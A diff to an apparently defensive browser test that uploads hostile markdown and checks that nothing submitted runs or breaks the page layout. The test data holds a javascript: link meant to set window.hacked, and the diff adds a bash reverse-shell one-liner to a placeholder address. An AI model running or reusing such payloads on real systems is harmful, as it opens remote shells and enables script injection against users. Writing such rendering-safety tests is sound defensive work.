@@ -320,7 +320,8 @@ def test_nothing_submitted_runs_and_nothing_breaks_the_layout(browser, platform)
     links_in_text = "[x](javascript:window.hacked=1) ![x](x:y) [docs](https://example.org/)"
     text = f"{head}# {SCRIPT}\n\n{SCRIPT}\n\n{long}\n\n{links_in_text}\n"
     good = upload(platform, "nasty", text)
-    bad = upload(platform, "nastier", f"---\nname: {long}{SCRIPT}\n---\n")
+    shell = "```sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n```"
+    bad = upload(platform, "nastier", f'---\nname: nastier\ndescription: "{long}{SCRIPT}"\n---\n{SCRIPT}\n\n{shell}\n')
     wait_until_idle(platform)
     tab = Tab(browser.new_context(viewport={"width": 390, "height": 844}))
     sign_in(tab.page, platform)
